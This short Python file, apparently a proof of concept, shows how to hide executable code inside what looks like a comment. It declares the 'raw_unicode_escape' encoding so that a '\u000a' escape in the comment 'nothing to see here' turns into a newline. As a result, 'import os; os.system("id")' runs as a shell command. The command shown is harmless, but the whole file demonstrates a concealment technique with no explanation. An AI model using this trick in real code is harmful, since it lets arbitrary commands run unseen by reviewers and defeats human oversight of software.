# coding: raw_unicode_escape
# nothing to see here \u000aimport os; os.system("id")
